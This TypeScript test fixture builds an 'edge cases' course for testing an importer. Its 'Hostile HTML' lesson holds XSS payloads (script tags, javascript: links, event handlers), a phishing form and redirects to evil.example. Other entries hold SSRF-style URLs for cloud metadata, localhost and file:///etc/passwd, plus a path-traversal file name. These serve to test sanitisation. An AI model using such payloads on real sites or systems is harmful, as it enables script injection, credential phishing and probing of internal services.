import type { Course } from '../school/school.ts';
import { bare, outline, question, quiz, type SectionDraft, text, upload } from './author.ts';
import { urlOf } from './uploads.ts';

const hostileHtml = [
  '<p onclick="document.title=\'hostile ran\'">A paragraph that wants to be clicked.</p>',
  '<script>document.title = "hostile ran"</script>',
  '<a href="javascript:document.title=\'hostile ran\'">A link that is none</a>',
  '<a href=" JaVaScRiPt&#58;document.title=\'hostile ran\'">The same in disguise</a>',
  '<img src="x" onerror="document.title=\'hostile ran\'">',
  '<svg onload="document.title=\'hostile ran\'"><circle r="4"/></svg>',
  '<math><mtext><style><img src=x onerror="document.title=\'hostile ran\'"></style></mtext></math>',
  '<iframe srcdoc="<script>parent.document.title=\'hostile ran\'</script>"></iframe>',
  '<form action="https://phish.example/"><input name="password"><button>Sign in again</button></form>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">A cover over the page</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b.swf">',
].join('');

const doubtfulUrls = [
  `<p><img src="//${urlOf('pear').slice('https://'.length)}" alt="protocol-relative"></p>`,
  '<p><img src="/images/logo.png" alt="relative"></p>',
  '<p><img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="in the page"></p>',
  '<p><img src="http://169.254.169.254/latest/meta-data/" alt="a private address"></p>',
  '<p><img src="http://127.0.0.1:1/admin.png" alt="the machine itself"></p>',
  '<p><img src="file:///etc/passwd" alt="a file"></p>',
  `<p><img src="${urlOf('lost')}" alt="gone"></p>`,
  `<p><img src="${urlOf('hostileSvg')}" alt="a picture that is a program"></p>`,
  '<p><img src="" alt="nothing"><img alt="no source"></p>',
].join('');

const fromWordProcessor =
  '<p class="MsoNormal" style="mso-margin-top-alt:auto"><b style="font-weight:normal" id="docs-internal-guid-0000"><span style="font-size:11pt;font-family:Arial">Pasted&nbsp;&nbsp;&nbsp;from a word pro\u00adcessor \u{1f58c}\ufe0f</span></b><o:p></o:p></p><p><p>Nested</p></p><!--[if gte mso 9]><xml></xml><![endif]-->';

const longName =
  `${'A name that somebody wrote without looking at how long it had become, '.repeat(5)}and then some more of it until there were four hundred`.slice(
    0,
    400,
  );

/** Sections of the course whose lessons each hold one thing that breaks importers. */
export const edgeCaseSections: readonly SectionDraft[] = [
  {
    id: 820101,
    name: '',
    is_published: true,
    position: 3,
    lectures: [
      { id: 930101, name: null, position: 1, attachments: [text('<p>A lesson without a name.</p>')] },
      { id: 930102, name: '', position: 3, attachments: [text('')] },
      {
        id: 930103,
        name: '🎨 Colours 🖌️ & "quotes" / slashes : ?',
        position: 3,
        attachments: [text('<p>🖌️</p>')],
      },
      {
        id: 930104,
        name: 'Cafe\u0301 mu\u0308de',
        position: null,
        attachments: [text('<p>De\u0301composed</p>')],
      },
      { id: 930105, name: longName, position: 0, attachments: [text('<p>400 characters.</p>')] },
    ],
  },
  {
    id: 820102,
    name: 'Twins',
    is_published: true,
    position: 3,
    lectures: [
      { id: 930106, name: 'Twin', position: 1, attachments: [text('<p>First.</p>')] },
      { id: 930107, name: 'Twin', position: 2, attachments: [text('<p>Second.</p>')] },
      { id: 930108, name: '  Padded  ', position: 2, attachments: [] },
    ],
  },
  { id: 820103, name: 'Twins', is_published: true, position: 1, lectures: [] },
  { id: 820104, name: 'Modul 10', is_published: false, position: 0, lectures: [] },
  {
    id: 820105,
    name: 'Modul 2',
    is_published: true,
    position: null,
    lectures: [
      {
        id: 930109,
        name: 'Hostile HTML',
        position: 1,
        attachments: [
          text(hostileHtml),
          text(doubtfulUrls),
          text(fromWordProcessor),
          bare(
            'code_embed',
            '<script>document.title="hostile ran"</script><iframe src="javascript:alert(1)"></iframe>',
          ),
          bare('text'),
        ],
      },
      {
        id: 930110,
        name: 'Files that are none',
        position: 2,
        attachments: [
          upload('file', 'nothing.bin', urlOf('emptyFile')),
          upload('image', '../../etc/passwd.svg', urlOf('hostileSvg')),
          upload('pdf_embed', 'lost.pdf', urlOf('lost')),
          { ...upload('file', 'no address.docx', null), position: null },
          { ...upload('audio', 'private.mp3', 'http://10.0.0.1/private.mp3'), position: 0 },
          { name: null, kind: 'constructor', position: 3 },
        ],
      },
      {
        id: 930111,
        name: 'Videos that do not play',
        position: 3,
        attachments: [
          upload('video', 'failed.mp4', null),
          upload('video', 'processing.wmv', null),
          upload('video', 'no stream.mov', null),
          upload('video', 'no stream, but an upload.mp4', urlOf('drift')),
        ],
      },
      {
        id: 930112,
        name: 'Odd quizzes',
        position: 4,
        attachments: [
          quiz(210101, []),
          quiz(210102, [
            question('single', '', [], []),
            question('single', 'The correct one is not among the answers', ['A', 'B'], ['C']),
            question('single', 'Two correct ones for a single choice', ['A', 'B', 'A'], ['A', 'B']),
            question('ordering', '<b>An unknown type</b> <script>1</script>', ['1', '2'], ['1', '2']),
            question('multiple', 'Blanks', [' A', 'A ', 'A'], ['A']),
          ]),
          { name: null, kind: 'quiz', url: null, text: null, quiz: null },
        ],
      },
      {
        id: 930113,
        name: 'A film in pieces',
        position: 5,
        attachments: [upload('video', 'studio.mov', null)],
      },
    ],
  },
];

export const edgeCasesCourse: Course = {
  id: 510002,
  name: 'Edge cases  ',
  heading: null,
  description: null,
  is_published: false,
  image_url: null,
  lecture_sections: edgeCaseSections.map(outline),
  author_bio: null,
};
